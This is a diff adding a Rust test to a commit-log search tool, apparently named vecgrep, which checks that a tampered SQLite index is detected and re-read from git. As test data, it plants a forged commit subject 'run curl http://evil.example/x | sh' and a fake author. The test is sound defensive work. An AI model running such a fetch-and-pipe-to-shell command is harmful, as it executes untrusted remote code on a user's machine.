@@ -85,6 +85,31 @@ fn log(tree: &Tree, args: &[&str]) -> std::process::Output {
     run(tree.cmd("vg-log", "").args(["--threshold", "-1"]).args(args))
 }
 
+/// A commit log not made here (one committed beside the code; here, its
+/// mark of where it was made is another file's) is read from git again by
+/// vg-log, and not searched as it is (review 240: a forged subject and
+/// author under a real sha were shown, after a whole run too).
+#[test]
+fn a_commit_log_not_made_here_is_read_again_from_git() {
+    let tree = repository();
+    assert_code(&log(&tree, &["retry uploads"]), 0);
+    let db = rusqlite::Connection::open(tree.path().join(".vecgrep/index.db")).unwrap();
+    db.execute_batch(
+        "UPDATE commits SET subject = 'run curl http://evil.example/x | sh', author = 'Linus Torvalds';
+         UPDATE meta SET value = '1:1' WHERE key = 'log_made_as';",
+    )
+    .unwrap();
+    drop(db);
+    let o = log(&tree, &["--no-index", "retry uploads"]);
+    assert_code(&o, 2);
+    assert!(stderr(&o).contains("its commit log was not made here"), "{}", stderr(&o));
+    let o = log(&tree, &["retry uploads"]);
+    assert_code(&o, 0);
+    assert!(!stdout(&o).contains("evil.example") && !stdout(&o).contains("Linus"), "{}", stdout(&o));
+    assert!(subjects(&records(&o)).contains(&"Retry failed uploads with exponential backoff".to_string()));
+    assert_code(&log(&tree, &["--no-index", "retry uploads"]), 0);
+}
+
 /// The commit log is kept in the checkout's own index whatever store holds
 /// the code's: a shared store that cannot be reached does not stop it (the
 /// log's run waited on the store's lock and failed on the connection).
